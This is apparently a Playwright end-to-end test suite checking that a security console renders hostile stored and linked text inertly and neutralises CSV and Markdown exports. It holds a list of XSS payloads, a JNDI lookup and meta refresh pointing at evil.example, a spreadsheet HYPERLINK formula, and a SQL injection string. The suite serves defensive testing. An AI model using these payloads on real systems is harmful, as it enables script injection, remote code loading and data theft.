/** Text that wants to be more than text, in every field of an event, on every page of the console. */
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { EVENT_FIELDS } from "../../src/event.ts";
import { openServer, PASSWORD, send, setUp, type TestServer } from "../support/api-server.ts";
import { CHROMIUM, launch } from "./chromium.ts";
import { asSomebody, type Visitor, visit } from "./console.ts";
import { overflow } from "./watched-page.ts";

const PAYLOADS = [
  "<img src=x onerror=ran()>",
  "</script><script>ran()</script>",
  `"><svg onload=ran()><style>*{display:none}</style>`,
  "javascript:ran()",
  `<iframe srcdoc="<script>parent.ran()</script>"></iframe>`,
  `<a href="javascript:ran()" style="position:fixed;inset:0">x</a>`,
  "<base href=https://evil.example/><meta http-equiv=refresh content=0;url=https://evil.example>",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the lookup is meant as it stands
  "${ran()} {{constructor.constructor('ran()')()}} ${jndi:ldap://evil.example/a}",
  `=HYPERLINK("https://evil.example","x")`,
  "\u202egnp.exe\u2066 \u001b[2J\u0000\r\n\u2028",
  "__proto__",
  `Z${"\u0301".repeat(200)}`,
  "x".repeat(3_000),
  "` onmouseover=ran() [x](javascript:ran()) ![](https://evil.example/p.png)",
];
/** They have a form of their own, which text does not have. */
const NOT_TEXT = new Set<string>([
  "timestamp",
  "server.port",
  "http.request.body.size",
  "http.response.status_code",
  "http.response.body.size",
  "duration_ms",
  "client.as.number",
]);
const OBJECTS = new Set<string>(["http.request.headers", "http.response.headers"]);

/** The oracle: called by whatever of the text is run. */
const ORACLE = "window.ran = () => { window.didRun = (window.didRun ?? 0) + 1; }";
/** Elements and attributes that the console never makes. */
const FOREIGN = `
  [...document.querySelectorAll("#root *")].flatMap((element) => [
    ...(/^(?:script|iframe|object|embed|img|base|meta|link|style|form-data|animate|marquee|video|audio)$/.test(element.localName)
      ? [element.localName] : []),
    ...element.getAttributeNames().filter((name) => /^on|^src/.test(name)),
    ...(/^\\s*javascript:/i.test(element.getAttribute("href") ?? "") ? ["javascript:"] : []),
  ])
`;

function hostileEvent(payload: string, at: number): Record<string, unknown> {
  return {
    ...Object.fromEntries(
      EVENT_FIELDS.filter((name) => !NOT_TEXT.has(name)).map((name) => [
        name,
        OBJECTS.has(name) ? { [payload.slice(0, 60)]: payload, referer: payload } : payload,
      ]),
    ),
    // Longer ones are stored, and not asked for one by one.
    "event.id": payload.slice(0, 200),
    timestamp: new Date(at).toISOString(),
    "http.response.status_code": 200,
    duration_ms: 5,
  };
}

describe.skipIf(CHROMIUM === undefined)("hostile text in the console", () => {
  let browser: Browser;
  let server: TestServer;
  let visitor: Visitor;
  const links: string[] = [];
  let incidents: readonly string[];
  let events: readonly string[];

  beforeAll(async () => {
    const now = Date.now();
    server = await openServer(now);
    const admin = await setUp(server);
    const made = PAYLOADS.flatMap((payload, index) => {
      const event = hostileEvent(payload, now - 60_000 + index);
      // Some of it must be an attack, so that it stands in verdicts, notices and exports.
      const attack = {
        ...event,
        "client.address": `203.0.113.${index + 1}`,
        "url.path": "/products",
        "url.query": `q=1'%20UNION%20SELECT%20password%20FROM%20users--${encodeURIComponent(payload.slice(0, 200))}`,
      };
      return [event, attack];
    });
    await send(server, made);
    const cases = await server.live.records.cases.list({ limit: 100 });
    incidents = cases.map(({ incident }) => incident.id);
    for (const id of incidents)
      await admin.ask("POST", `/incidents/${id}/comments`, { text: PAYLOADS.join("\n").slice(0, 9_000) });
    for (const [index, payload] of PAYLOADS.entries()) {
      const name = `${index} ${payload}`.slice(0, 150);
      await admin.ask("POST", "/keys", { kind: "ingest", name });
      await admin.ask("POST", "/queries", {
        name,
        query: `events | where url.path == "${index}" // ${payload.slice(0, 99)}`,
      });
      await admin.ask("PUT", "/views", { name, search: { find: payload, state: payload } });
      const link = { page: index % 2 === 0 ? "explore" : "incidents", search: { q: payload, find: payload } };
      const made = await admin.ask("POST", "/links", { ...link, days: 1 });
      links.push((made.body as { id: string }).id);
      await admin.ask("POST", "/exceptions", { detector: "brute_force", reason: name, endpoint: name });
    }
    const rows = await admin.ask("POST", "/query", { query: "events | project event.id", rows: 100 });
    events = (rows.body as { rows: unknown[][] }).rows.map(([id]) => String(id));
    browser = await launch();
    visitor = await visit(browser, server);
    await visitor.page.addInitScript(ORACLE);
    await asSomebody(visitor, server, "root", PASSWORD);
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await server?.stop();
  });

  async function nothingRan(page: Page, where: string): Promise<void> {
    // So many requests of one address need their time.
    server.pass(10_000);
    await page.locator(".skeleton").first().waitFor({ state: "detached" });
    await page.waitForTimeout(100);
    expect(await page.evaluate<string[]>(FOREIGN), where).toEqual([]);
    expect(await page.evaluate<unknown>("window.didRun ?? 0"), where).toBe(0);
    expect(new URL(page.url()).origin, where).toBe(server.url);
    expect(await overflow(page), `${where} is wider than its window`).toBe(0);
    expect(visitor.misdeeds(), where).toEqual([]);
  }

  test("the store has them, and verdicts were given", () => {
    expect(events.length).toBe(2 * PAYLOADS.length);
    expect(incidents.length).toBe(3);
  });

  test("nothing of it runs on any page", async () => {
    const { page } = visitor;
    const paths = [
      "/",
      "/incidents",
      "/explore?columns=timestamp,url.path,url.query,user.id,user_agent.original,session.id,finding.class,service.name",
      "/explore?q=events+%7C+summarize+n+%3D+count()+by+user.id,+user_agent.original",
      "/explore?q=detections",
      "/entities",
      "/services",
      "/detections?detector=brute_force",
      ...["sources", "keys", "users", "alerts", "health", "audit", "account"].map(
        (tab) => `/settings?tab=${tab}`,
      ),
    ];
    for (const path of paths) {
      await visitor.open(path, /./);
      await nothingRan(page, path);
    }
    await visitor.open("/explore", "Explore");
    await page.getByRole("button", { name: "Saved" }).click();
    await page.getByText("0 <img src=x onerror=ran()>").first().waitFor();
    await nothingRan(page, "saved queries");
    await visitor.open("/incidents", "Incidents");
    await page.getByRole("button", { name: "Views" }).click();
    await page.getByText("0 <img src=x onerror=ran()>").first().waitFor();
    await nothingRan(page, "views");
  }, 120_000);

  test("nothing of it runs in an event, in an incident, in a profile", async () => {
    const { page } = visitor;
    for (const id of events) {
      await visitor.open(`/explore?q=events+%7C+count&event=${encodeURIComponent(id)}`, "Explore");
      await page.getByRole("region", { name: "Fields" }).waitFor();
      await nothingRan(page, `event ${id.slice(0, 40)}`);
    }
    for (const id of incidents) {
      await visitor.open(`/incidents/${encodeURIComponent(id)}`, /./);
      await page.getByText("What to do").first().waitFor();
      await nothingRan(page, `incident ${id}`);
    }
    for (const payload of PAYLOADS) {
      await visitor.open(`/entities/user.id/${encodeURIComponent(payload.slice(0, 200))}`, /./);
      await nothingRan(page, `profile of ${payload.slice(0, 40)}`);
    }
  }, 180_000);

  test("what is typed or linked to runs no more than what is stored", async () => {
    const { page } = visitor;
    for (const payload of PAYLOADS.slice(0, 8)) {
      const encoded = encodeURIComponent(payload);
      await visitor.open(
        `/incidents?find=${encoded}&assignee=${encoded}&state=${encoded}&severity=${encoded}`,
        "Incidents",
      );
      await visitor.open(
        `/services?service=${encoded}&from=${encoded}&to=${encoded}&range=${encoded}`,
        "Services",
      );
      await visitor.open(`/settings?tab=${encoded}`, "Set-up");
      await visitor.open(`/links/${encoded}`, "A link");
      expect(await page.evaluate<unknown>("window.didRun ?? 0")).toBe(0);
      expect(await page.evaluate<string[]>(FOREIGN)).toEqual([]);
    }
  }, 60_000);

  test("a link to it runs nothing of it", async () => {
    const { page } = visitor;
    for (const link of links.slice(0, 8)) {
      await visitor.open(`/links/${link}`, /Explore|Incidents/);
      expect(await page.evaluate<unknown>("window.didRun ?? 0")).toBe(0);
      expect(await page.evaluate<string[]>(FOREIGN)).toEqual([]);
    }
  }, 60_000);

  test("a downloaded table holds no formula, and an exported incident no markup", async () => {
    const { page } = visitor;
    await visitor.open("/explore?columns=user.id,url.path,user_agent.original", "Explore");
    await page.getByRole("table").waitFor();
    const csv = await saved(page, "Download", "CSV");
    for (const cell of cellsOf(csv)) expect(cell).not.toMatch(/^[\s]*[=+\-@\t]/);
    expect(csv).toContain("'=HYPERLINK");

    await visitor.open(`/incidents/${encodeURIComponent(incidents[0] ?? "")}`, /./);
    const markdown = await saved(page, "Export", "Markdown");
    const outsideOfCode = markdown.replace(/(`+)[\s\S]*?[^`]\1(?!`)/g, "");
    expect(outsideOfCode).not.toMatch(/(?<!\\)</);
    expect(outsideOfCode).not.toMatch(/(?<!\\)\]\(/);
  });
});

async function saved(page: Page, button: string, form: string): Promise<string> {
  await page.getByRole("button", { name: button }).click();
  const [download] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("menuitem", { name: form }).click(),
  ]);
  const chunks: Buffer[] = [];
  for await (const chunk of await download.createReadStream()) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks).toString("utf8");
}

/** Cells of RFC 4180 text. */
function cellsOf(csv: string): readonly string[] {
  return [...csv.matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(([, quoted, plain]) =>
    (quoted ?? plain ?? "").replaceAll('""', '"'),
  );
}
